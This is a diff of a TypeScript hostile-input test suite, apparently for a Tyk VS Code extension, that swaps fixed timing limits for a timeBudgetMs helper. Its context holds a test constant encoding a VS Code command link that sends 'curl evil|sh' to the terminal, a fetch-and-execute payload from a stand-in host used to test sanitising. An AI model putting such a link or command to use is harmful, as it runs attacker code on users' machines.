@@ -25,6 +25,7 @@ import { MAX_CA_FILE_BYTES, readCaFile } from '../../../src/tyk/tls';
 import { isHttpToken, parseHeaderName, parseListenPath } from '../../../src/domain/validation';
 import { keyFormatLabel } from '../../../src/domain/keyFormats';
 import { json, startFaultServer, type FaultServer } from '../../support/faultServer';
+import { timeBudgetMs } from '../../support/timeBudget';
 
 const CREDENTIAL = 'c0ffee00d15ea5e5b16b00b5feedface';
 const COMMAND_LINK = '[Update Credential…](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
@@ -76,7 +77,7 @@ describe('tyk: hostile input (issue 14)', () => {
       // Cut first: a 32 MB text costs no more than a short one.
       const started = process.hrtime.bigint();
       plainText(`${' \n'.repeat(8 * 1024 * 1024)}[x](command:y)`);
-      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 50, 'linear in the bound, not the text');
+      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < timeBudgetMs(50), 'linear in the bound, not the text');
     });
 
     it('markdownText: every ASCII punctuation character escaped (links, images, HTML, code, autolinks, icons)', () => {
@@ -144,7 +145,7 @@ describe('tyk: hostile input (issue 14)', () => {
         const blocked = await longestBlockMs(async () => {
           error = await caught(() => dashboard.listApisPage(1));
         });
-        assert.ok(blocked < 100, `the event loop was blocked ${blocked.toFixed(0)} ms by a ${status}`);
+        assert.ok(blocked < timeBudgetMs(100), `the event loop was blocked ${blocked.toFixed(0)} ms by a ${status}`);
         assert.equal(error?.kind, status === 200 ? 'bad-response' : 'server');
         assert.match(error?.message ?? '', status === 200 ? /not JSON/ : /HTML page/);
         assert.ok((error?.message.length ?? 0) < 700);
@@ -160,7 +161,7 @@ describe('tyk: hostile input (issue 14)', () => {
       const blocked = await longestBlockMs(async () => {
         error = await caught(() => dashboard.listApisPage(1));
       });
-      assert.ok(blocked < 100, `blocked ${blocked.toFixed(0)} ms`);
+      assert.ok(blocked < timeBudgetMs(100), `blocked ${blocked.toFixed(0)} ms`);
       assert.equal(error?.code, 'TOO_LARGE');
       assert.match(error?.message ?? '', /larger than 8 MB/);
       dashboard.dispose();
@@ -386,7 +387,7 @@ describe('tyk: hostile input (issue 14)', () => {
       const long = `https://x/${'/'.repeat(200_000)}a${'/'.repeat(200_000)}`;
       const started = process.hrtime.bigint();
       assert.equal(trimTrailingSlashes(long), `https://x/${'/'.repeat(200_000)}a`);
-      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 50);
+      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < timeBudgetMs(50));
       assert.equal(credentialBinding('dashboard', 'https://Dash.example.com/'), credentialBinding('dashboard', 'https://dash.example.com'));
       assert.notEqual(credentialBinding('dashboard', 'https://dash.example.com'), credentialBinding('dashboard', 'https://evil.example.com'));
       assert.notEqual(credentialBinding('dashboard', 'https://dash.example.com'), credentialBinding('gateway', 'https://dash.example.com'));
